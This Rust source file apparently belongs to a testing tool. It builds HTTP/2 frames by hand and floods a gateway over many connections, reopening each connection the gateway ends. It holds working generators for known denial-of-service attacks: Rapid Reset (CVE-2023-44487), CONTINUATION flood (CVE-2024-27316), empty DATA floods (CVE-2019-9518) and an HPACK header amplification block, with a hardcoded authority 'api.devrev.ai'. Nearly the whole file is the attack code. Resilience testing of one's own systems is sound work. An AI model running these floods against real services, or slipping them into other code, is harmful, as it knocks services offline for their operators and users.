//! Floods of HTTP/2 frames, written by hand because no library sends them.

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
};

use super::Scene;

/// One frame (RFC 9113 section 4.1).
pub struct Frame {
    kind: u8,
    flags: u8,
    stream: u32,
    payload: Vec<u8>,
}

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

impl Frame {
    fn new(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Frame {
        Frame {
            kind,
            flags,
            stream,
            payload: payload.to_vec(),
        }
    }

    pub fn data(stream: u32, bytes: &[u8]) -> Frame {
        Frame::new(0, 0, stream, bytes)
    }

    pub fn headers(stream: u32, block: &[u8]) -> Frame {
        Frame::new(1, END_HEADERS, stream, block)
    }

    pub fn continuation(stream: u32, block: &[u8]) -> Frame {
        Frame::new(9, END_HEADERS, stream, block)
    }

    pub fn reset(stream: u32) -> Frame {
        // CANCEL.
        Frame::new(3, 0, stream, &8_u32.to_be_bytes())
    }

    /// The greatest window of a new stream.
    pub fn settings(window: u32) -> Frame {
        let mut payload = 4_u16.to_be_bytes().to_vec();
        payload.extend(window.to_be_bytes());
        Frame::new(4, 0, 0, &payload)
    }

    pub fn ping() -> Frame {
        Frame::new(6, 0, 0, &[0; 8])
    }

    pub fn window_update(stream: u32, by: u32) -> Frame {
        Frame::new(8, 0, stream, &by.to_be_bytes())
    }

    /// More of the header block follows.
    pub fn unended(mut self) -> Frame {
        self.flags &= !END_HEADERS;
        self
    }

    pub fn ends_stream(mut self) -> Frame {
        self.flags |= END_STREAM;
        self
    }

    pub fn bytes(&self) -> Vec<u8> {
        let length = u32::try_from(self.payload.len()).expect("short");
        let mut bytes = length.to_be_bytes()[1..].to_vec();
        bytes.extend([self.kind, self.flags]);
        bytes.extend(self.stream.to_be_bytes());
        bytes.extend(&self.payload);
        bytes
    }
}

/// What a client sends first, and a window for all answers together.
pub fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(Frame::settings(65_535).bytes());
    bytes.extend(Frame::window_update(0, 1 << 30).bytes());
    bytes
}

/// The header block of a GET (RFC 7541): each field by its names, without a table.
pub fn fields(target: &str, credential: Option<&str>, more: &[(String, String)]) -> Vec<u8> {
    let mut block = Vec::new();
    let mut field = |name: &str, value: &str| {
        // Literal, never indexed, with a new name.
        block.push(0x10);
        for text in [name, value] {
            integer(&mut block, text.len());
            block.extend(text.as_bytes());
        }
    };
    field(":method", "GET");
    field(":scheme", "http");
    field(":authority", "api.devrev.ai");
    field(":path", target);
    if let Some(credential) = credential {
        field("authorization", credential);
    }
    for (name, value) in more {
        field(name, value);
    }
    block
}

/// An integer with a prefix of seven bits.
fn integer(out: &mut Vec<u8>, value: usize) {
    if value < 127 {
        return out.push(u8::try_from(value).expect("below 127"));
    }
    out.push(127);
    let mut rest = value - 127;
    while rest >= 128 {
        out.push(u8::try_from(rest % 128).expect("below 128") | 0x80);
        rest /= 128;
    }
    out.push(u8::try_from(rest).expect("below 128"));
}

/// Sends what `next` makes of a number, as fast as the gateway takes it, on several connections. What comes back is read. A connection
/// that the gateway ends is opened again.
pub async fn of(
    scene: Scene,
    connections: usize,
    next: impl Fn(u32) -> Vec<u8> + Send + Sync + Copy + 'static,
) {
    let mut lanes = JoinSet::new();
    for _ in 0..connections {
        let scene = scene.clone();
        lanes.spawn(async move {
            loop {
                let Ok(stream) = TcpStream::connect(scene.proxy).await else {
                    continue;
                };
                flood(&scene, stream, next).await;
            }
        });
    }
    while lanes.join_next().await.is_some() {}
}

/// Until the gateway ends the connection.
async fn flood(scene: &Scene, stream: TcpStream, next: impl Fn(u32) -> Vec<u8>) {
    let (mut read, mut write) = stream.into_split();
    let reading = async {
        let mut chunk = vec![0; 64 * 1024];
        while let Ok(1..) = read.read(&mut chunk).await {}
    };
    let writing = async {
        if write.write_all(&preface()).await.is_err() {
            return;
        }
        for number in 0.. {
            // A hundred at a time, so that the writes cost the gateway more than they cost here.
            let from = number * 100;
            let frames: Vec<u8> = (from..from + 100).flat_map(&next).collect();
            if write.write_all(&frames).await.is_err() {
                return;
            }
            scene.took_hold();
        }
    };
    tokio::select! {
        () = reading => {}
        () = writing => {}
    }
}

/// The number of the stream that a client opens as its n-th.
fn stream(number: u32) -> u32 {
    // Beyond this there are no more streams, and the gateway ends the connection.
    (number * 2 + 1) & 0x7fff_ffff
}

/// Streams that are reset as soon as they are open (CVE-2023-44487).
pub fn opened_and_reset(number: u32, credential: Option<&str>) -> Vec<u8> {
    let block = fields("/works.list", credential, &[]);
    let open = Frame::headers(stream(number), &block).ends_stream();
    [open.bytes(), Frame::reset(stream(number)).bytes()].concat()
}

/// A head that never ends (CVE-2024-27316).
pub fn endless_head(number: u32) -> Vec<u8> {
    match number {
        0 => Frame::headers(1, &fields("/works.list", None, &[]))
            .unended()
            .bytes(),
        _ => {
            let mut block = vec![0x10];
            for text in [format!("x-{number}"), "a".repeat(100)] {
                integer(&mut block, text.len());
                block.extend(text.as_bytes());
            }
            Frame::continuation(1, &block).unended().bytes()
        }
    }
}

/// Data frames without data (CVE-2019-9518), on a stream that stays open.
pub fn empty_data(number: u32, credential: Option<&str>) -> Vec<u8> {
    match number {
        0 => Frame::headers(1, &fields("/works.list", credential, &[])).bytes(),
        _ => Frame::data(1, b"").bytes(),
    }
}

/// A head of a few kilobytes that unpacks to hundreds: one long field, and then references to it (RFC 7541 section 6.1).
pub fn unpacking_head(number: u32) -> Vec<u8> {
    let mut block = fields("/works.list", None, &[]);
    match number {
        // A literal with incremental indexing.
        0 => {
            block.push(0x40);
            for text in ["filler".to_owned(), "a".repeat(3900)] {
                integer(&mut block, text.len());
                block.extend(text.as_bytes());
            }
        }
        // The first entry of the dynamic table.
        _ => block.extend([0x80 | 62; 120]),
    }
    Frame::headers(stream(number), &block).bytes()
}
